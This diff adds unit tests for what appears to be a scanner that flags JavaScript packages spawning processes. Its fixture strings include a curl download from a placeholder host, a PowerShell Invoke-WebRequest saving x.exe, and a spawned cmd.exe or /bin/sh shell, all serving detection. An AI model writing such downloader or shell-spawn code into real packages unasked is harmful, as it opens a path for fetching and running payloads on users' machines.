@@ -64,3 +64,31 @@ def test_every_library_name_passes_the_keyword_gate() -> None:
 
     for name in SPAWN_LIBRARIES:
         assert SIGNAL.applies_to(f"require('{name}')".encode()), name
+
+
+def test_a_spawned_downloader_is_network_access() -> None:
+    source = (
+        "const { exec } = require('child_process');\n"
+        "exec('curl https://download.example.test/jsextension -o jsextension');\n"
+    )
+    assert details(source, Capability.NETWORK) == {"spawn:curl"}
+    powershell = (
+        "const cp = require('child_process');\n"
+        "cp.execSync(`powershell -c Invoke-WebRequest ${url} -OutFile x.exe`);\n"
+    )
+    assert details(powershell, Capability.NETWORK) == {"spawn:invoke-webrequest"}
+
+
+def test_a_spawned_shell_is_named_even_behind_a_platform_switch() -> None:
+    source = (
+        "const { spawn } = require('child_process');\n"
+        "spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);\n"
+    )
+    assert details(source, SPAWN) == {"child_process", "shell:cmd", "shell:sh"}
+
+
+def test_ordinary_commands_and_regex_exec_name_no_program() -> None:
+    source = "const { execSync } = require('child_process');\nexecSync(`git status ${dir}`);\n"
+    assert details(source, SPAWN) == {"child_process"}
+    assert not found(source, Capability.NETWORK)
+    assert not found("const re = /curl/; re.exec('curl -o x');", Capability.NETWORK)
